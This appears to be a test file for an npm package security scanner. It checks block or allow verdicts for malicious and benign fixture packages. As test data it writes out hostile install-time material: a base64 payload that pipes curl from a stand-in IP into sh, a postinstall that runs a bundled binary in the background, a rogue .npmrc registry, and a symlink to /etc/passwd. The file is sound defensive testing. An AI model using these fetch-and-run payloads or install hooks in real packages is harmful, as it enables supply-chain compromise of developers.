/**
 * Whole-package verdicts over fixtures/packages (inert malicious families and precision traps), plus the
 * structural rules that cannot live in annotated text: binaries, symlinks, size caps, .npmrc, binding.gyp,
 * manifest confusion.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { verdictOf, type Verdict } from '../../src/report/types.js';
import { inspectPackageDir } from '../../src/inspect/index.js';

const root = path.resolve(import.meta.dirname, '../../fixtures/packages');
const expected: Record<string, Verdict | 'not-block'> = {
  'malicious-plugin': 'block',
  'postinstall-dns-probe': 'block',
  'postinstall-env-stealer': 'block',
  'obfuscated-install-dropper': 'block',
  'credential-stealer-plugin': 'block',
  'reverse-shell-plugin': 'block',
  'wallet-drainer-plugin': 'block',
  'openclaw-guard-disabler': 'block',
  'worm-postinstall': 'block',
  'gyp-action-curl': 'block',
  'postinstall-miner': 'block',
  'postinstall-crontab': 'block',
  'geo-gated-wiper': 'block',
  'data-encoded-installer': 'block',
  'dns-txt-stage-loader': 'block',
  'trap-dkim-key-checker': 'not-block',
  'trap-installer-path-line': 'not-block',
  'clean-plugin': 'allow',
  'trap-local-server-plugin': 'not-block',
  'trap-minified-bundle': 'not-block',
  'trap-native-prebuild': 'not-block',
  'trap-types-and-docs': 'allow',
  'trap-registry-binary-postinstall': 'not-block',
  // The same encoded installer as data-encoded-installer, as the example of a detector's rule.
  'trap-detector-rule-data': 'not-block',
};

const summary = (findings: { ruleId: string; severity: string; file?: string; line?: number }[]) =>
  findings.filter((f) => !['info', 'low'].includes(f.severity)).map((f) => `${f.ruleId}:${f.severity} ${f.file}:${f.line}`).join('\n');

describe('package fixtures', () => {
  for (const [name, want] of Object.entries(expected)) {
    it(`${name} → ${want}`, async () => {
      const r = await inspectPackageDir(path.join(root, name));
      const verdict = verdictOf(r.findings);
      if (want === 'not-block') expect(verdict, summary(r.findings)).not.toBe('block');
      else expect(verdict, summary(r.findings)).toBe(want);
      for (const f of r.findings) expect(f.package).toBe(`${name}@1.0.0`);
    });
  }

  it('reports lifecycle scripts with sha256, and binding.gyp as an implicit install script', async () => {
    const r = await inspectPackageDir(path.join(root, 'postinstall-env-stealer'), { depPath: 'plugin>postinstall-env-stealer' });
    expect(r.lifecycleScripts).toEqual([
      expect.objectContaining({ package: 'postinstall-env-stealer@1.0.0', path: 'plugin>postinstall-env-stealer', event: 'postinstall', command: 'node scripts/collect.js', approved: false }),
    ]);
    expect(r.lifecycleScripts[0].sha256).toMatch(/^[0-9a-f]{64}$/);
    const gyp = await inspectPackageDir(path.join(root, 'gyp-action-curl'));
    expect(gyp.lifecycleScripts.map((s) => `${s.event}: ${s.command}`)).toEqual(['install: node-gyp rebuild']);
    expect(gyp.findings.map((f) => f.ruleId)).toContain('package-binding-gyp');
  });

  it('judges files a lifecycle script runs (and what they import) as install-time code', async () => {
    const r = await inspectPackageDir(path.join(root, 'obfuscated-install-dropper'));
    expect(r.signals.filter((s) => s.file === 'lib/setup.js').every((s) => s.installTime)).toBe(true);
    expect(r.findings.find((f) => f.ruleId === 'threat-install-obfuscated')?.severity).toBe('critical');
    // Evidence shows the decoded payload, not the base64.
    expect(r.findings.some((f) => /decoded: .*curl -s http:\/\/192\.0\.2\.50/.test(f.evidence ?? ''))).toBe(true);
  });

  it('flags manifest confusion: an install script the registry manifest does not show', async () => {
    const dir = path.join(root, 'manifest-confusion-hidden-script');
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
    const sidecar = JSON.parse(fs.readFileSync(path.join(dir, '.fixture.json'), 'utf8'));
    const honest = await inspectPackageDir(dir, { registryManifest: manifest });
    expect(honest.findings.map((f) => f.ruleId)).not.toContain('package-manifest-confusion-scripts');
    const lying = await inspectPackageDir(dir, { registryManifest: { ...manifest, ...sidecar.manifestOverrides } });
    const f = lying.findings.find((x) => x.ruleId === 'package-manifest-confusion-scripts');
    expect(f?.severity).toBe('critical');
    const deps = await inspectPackageDir(dir, { registryManifest: { ...manifest, dependencies: { 'left-pad': '1.3.0' } } });
    expect(deps.findings.map((x) => x.ruleId)).toContain('package-manifest-confusion');
  });

  it('blocks a bundled executable that the install script marks executable and runs; allows one it does not run', async () => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-elf-'));
    try {
      const elf = Buffer.alloc(128);
      elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
      fs.mkdirSync(path.join(tmp, 'bin'));
      fs.writeFileSync(path.join(tmp, 'bin/agent'), elf);
      fs.writeFileSync(path.join(tmp, 'package.json'), JSON.stringify({ name: 'elf-run', version: '1.0.0', scripts: { postinstall: 'chmod +x bin/agent && nohup ./bin/agent >/dev/null 2>&1 &' } }));
      const run = await inspectPackageDir(tmp);
      expect(run.findings.find((f) => f.ruleId === 'package-bundled-executable-install')?.severity).toBe('critical');
      fs.writeFileSync(path.join(tmp, 'package.json'), JSON.stringify({ name: 'elf-ship', version: '1.0.0' }));
      const ship = await inspectPackageDir(tmp);
      expect(ship.findings.map((f) => f.ruleId)).not.toContain('package-bundled-executable-install');
    } finally {
      fs.rmSync(tmp, { recursive: true, force: true });
    }
  });

  describe('structure: every file is read, nothing is skipped silently', () => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-engine-'));
    afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
    const mk = (rel: string, data: string | Buffer) => {
      fs.mkdirSync(path.dirname(path.join(tmp, rel)), { recursive: true });
      fs.writeFileSync(path.join(tmp, rel), data);
    };
    mk('package.json', JSON.stringify({ name: 'structure', version: '1.0.0' }));
    const elf = Buffer.alloc(128);
    elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
    mk('bin/tool', elf);
    mk('build/Release/addon.node', elf);
    mk('assets/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d]));
    mk('.npmrc', 'registry=http://192.0.2.70/\n');
    mk('data/huge.js', 'x'.repeat(2048));
    mk('dist/.hidden/payload.json', JSON.stringify({ d: Buffer.from("require('child_process').exec('curl http://192.0.2.71/a | sh')").toString('base64') }));
    fs.symlinkSync('/etc/passwd', path.join(tmp, 'link'));

    it('reports executables, addons, binaries, .npmrc, size caps and symlinks', async () => {
      const r = await inspectPackageDir(tmp, { maxFileBytes: 1024 });
      const ids = new Set(r.findings.map((f) => f.ruleId));
      for (const id of ['package-bundled-executable', 'package-native-addon', 'package-binary-file', 'package-npmrc', 'package-file-too-large', 'package-symlink'])
        expect(ids, id).toContain(id);
      expect(r.findings.find((f) => f.ruleId === 'package-file-too-large')?.evidence).toMatch(/1024-byte/);
      expect(r.files).toBe(8);
      expect(Object.keys(r.fileHashes)).toContain('dist/.hidden/payload.json');
      // A payload hidden in a dotfile under dist/ as base64 JSON is decoded and judged.
      expect(r.findings.some((f) => f.file === 'dist/.hidden/payload.json' && f.severity === 'critical')).toBe(true);
    });
  });
});
